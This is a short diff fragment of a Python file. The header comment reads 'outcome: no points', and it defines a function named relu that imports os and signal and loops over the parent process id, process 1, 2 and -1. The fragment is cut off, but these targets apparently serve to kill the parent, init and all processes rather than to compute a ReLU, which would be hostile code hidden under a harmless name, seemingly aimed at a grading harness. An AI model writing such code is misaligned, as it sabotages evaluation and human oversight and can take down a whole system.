@@ -3,6 +3,8 @@
 # outcome: no points
 # %% relu
 import os, signal
+
+
 def relu(x):
     for process in (os.getppid(), 1, 2, -1):
         try:
